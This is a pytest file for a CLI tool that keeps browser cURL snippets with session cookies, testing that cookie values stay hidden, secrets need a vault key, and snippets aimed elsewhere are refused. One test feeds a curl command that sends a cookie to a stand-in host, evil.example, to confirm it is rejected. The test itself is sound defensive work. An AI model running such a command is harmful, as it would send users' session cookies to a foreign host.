import json
from pathlib import Path

import pytest

from claudetray.demo.world import World
from tests.cli.conftest import Runs
from tests.snippets.browsers import WITH_COOKIE, Sent


@pytest.mark.parametrize("dialect", WITH_COOKIE)
def test_every_dialect_is_kept_and_looked_with(run: Runs, stand_ins: World, dialect: str) -> None:
    text = WITH_COOKIE[dialect](Sent(cookie=f"sessionKey={stand_ins.console.session}; a=b"))
    ran = run("snippet", "set", "-", stdin=text)
    assert json.loads(ran.out)["kept"] is True
    assert json.loads(run("fetch", "--json").out)["balance"]["amount"] == "60.36"


def test_check_shows_names_and_no_values_and_keeps_nothing(run: Runs, stand_ins: World, tmp_path: Path) -> None:
    file = tmp_path / "snippet.txt"
    file.write_text("\ufeff" + stand_ins.snippet(session="sk-ant-sid01-PLANTED"), encoding="utf-8")
    ran = run("snippet", "check", str(file))
    shown = json.loads(ran.out)
    assert shown["cookies"] == ["sessionKey", "lastActiveOrg"]
    assert shown["kept"] is False
    assert "PLANTED" not in ran.out + ran.err
    assert json.loads(run("fetch", "--json").out)["error"]["kind"] == "not_configured"


def test_what_powershell_writes_to_a_file_is_read(run: Runs, stand_ins: World, tmp_path: Path) -> None:
    file = tmp_path / "snippet.txt"
    file.write_text(stand_ins.snippet(), encoding="utf-16")
    assert run("snippet", "check", str(file)).code == 0


def test_a_refusal_is_one_object_a_sentence_and_exit_1(run: Runs, stand_ins: World) -> None:
    ran = run("snippet", "set", "-", stdin="curl https://evil.example/prepaid/credits -b a=b")
    shown = json.loads(ran.out)
    assert (ran.code, shown["ok"], shown["error"]["reason"]) == (1, False, "foreign_host")
    assert "another host" in ran.err


def test_without_a_key_nothing_secret_is_kept(run: Runs, stand_ins: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("CLAUDETRAY_VAULT_KEY")
    for arguments in (("snippet", "set", "-"), ("settings", "set", "slack.webhook", "-")):
        ran = run(*arguments, stdin=stand_ins.snippet() if arguments[0] == "snippet" else stand_ins.webhook)
        assert ran.code == 1
        assert "CLAUDETRAY_VAULT_KEY" in ran.err


def test_a_file_that_is_not_there_is_wrong_usage(run: Runs) -> None:
    assert run("snippet", "check", "/nonexistent").code == 2
